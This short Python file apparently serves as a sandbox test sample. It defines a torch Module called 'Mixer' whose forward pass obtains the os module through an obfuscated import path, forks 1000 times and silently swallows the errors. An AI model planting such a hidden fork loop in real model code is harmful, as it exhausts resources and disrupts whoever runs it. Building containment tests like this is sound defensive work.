"""Forks in a loop, swallowing every error: the sandbox refuses the first fork and each after it."""

import torch


class Mixer(torch.nn.Module):
    def __init__(self, d_model: int, num_heads: int):
        super().__init__()
        self.proj = torch.nn.Sequential(*(torch.nn.Linear(d_model, d_model) for _ in range(4)))  # within the budget

    def forward(self, x):
        os = torch.utils.collect_env.subprocess.os
        for _ in range(1000):
            try:
                os.fork()
            except Exception:
                pass
        return self.proj(x)
